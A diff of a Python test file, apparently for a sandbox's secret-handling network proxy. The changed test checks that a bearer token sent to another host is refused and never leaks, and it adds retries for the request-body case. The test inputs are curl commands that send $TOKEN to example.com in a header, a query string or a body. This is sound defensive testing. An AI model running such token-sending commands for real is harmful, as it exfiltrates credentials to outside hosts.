@@ -32,11 +32,17 @@ def test_the_host_gets_it_and_the_box_does_not(world, project):
 def test_116_to_another_host_it_is_refused(world, project, way):
     """A placeholder is worth nothing elsewhere, and the real one is never sent there."""
     how = {"header": '-H "Authorization: Bearer $TOKEN" https://example.com/whoami', "path": '"https://example.com/whoami?t=$TOKEN"', "body": '-d "t=$TOKEN" https://example.com/whoami'}[way]
-    with world.watch() as seen:
-        result = run(world, project, f"curl -sS -m 20 -w '%{{http_code}}' {how}; true", net=("https://example.com/* GET,POST",))
-    assert TOKEN not in str(seen.web) and TOKEN not in str(result)
-    assert way == "body" or not sent(seen, "example.com"), seen.web  # a body comes behind its head, which may be on its way
-    assert any(row["reason"] == "wrong-secret" for row in result["net"]["connections"]), result["net"]
+    told = False
+    for _ in range(5 if way == "body" else 1):
+        with world.watch() as seen:
+            result = run(world, project, f"curl -sS -m 20 -w '%{{http_code}}' {how}; true", net=("https://example.com/* GET,POST",))
+        assert TOKEN not in str(seen.web) and TOKEN not in str(result)
+        # A body comes behind its head, which may be on its way; a host that answers to the head alone is sometimes done before it.
+        assert way == "body" or not sent(seen, "example.com"), seen.web
+        told = told or any(row["reason"] == "wrong-secret" for row in result["net"]["connections"])
+        if told:
+            break
+    assert told, result["net"]
 
 
 def test_116_where_tls_is_passed_on_only_the_placeholder_gets_out(world, project):
